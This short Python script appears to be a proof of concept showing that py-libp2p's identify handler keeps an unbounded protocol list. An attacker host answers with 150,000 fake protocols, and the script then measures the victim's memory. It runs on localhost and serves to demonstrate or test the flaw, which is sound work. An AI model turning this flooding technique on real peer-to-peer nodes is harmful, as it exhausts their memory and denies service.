"""The list of protocols in an identify answer is kept whole: 1 MiB of it is 20 MB of strings."""

import sys

import trio
from libp2p import new_host
from libp2p.identity.identify.identify import ID as IDENTIFY
from libp2p.identity.identify.identify import _mk_identify_protobuf
from libp2p.peer.peerinfo import PeerInfo
from libp2p.utils import encode_varint_prefixed
from multiaddr import Multiaddr

PROTOCOLS = 150_000


async def main():
    listen = [Multiaddr("/ip4/127.0.0.1/tcp/0")]
    victim, attacker = new_host(), new_host()

    async def identify(stream):
        answer = _mk_identify_protobuf(attacker, None)
        answer.protocols.extend(f"{number:x}" for number in range(PROTOCOLS))
        await stream.write(encode_varint_prefixed(answer.SerializeToString()))
        await stream.close()

    attacker.set_stream_handler(IDENTIFY, identify)
    async with victim.run(listen), attacker.run(listen):
        await attacker.connect(PeerInfo(victim.get_id(), victim.get_addrs()))
        kept = []
        with trio.move_on_after(20):
            while len(kept) < PROTOCOLS:
                await trio.sleep(0.1)
                try:
                    kept = victim.get_peerstore().get_protocols(attacker.get_id())
                except Exception:
                    continue
    size = sum(map(sys.getsizeof, kept))
    print(f"the victim keeps {len(kept)} protocols of one peer, {size:,} bytes; a peer costs a key")
    return 0 if len(kept) >= PROTOCOLS else 1


if __name__ == "__main__":
    sys.exit(trio.run(main))
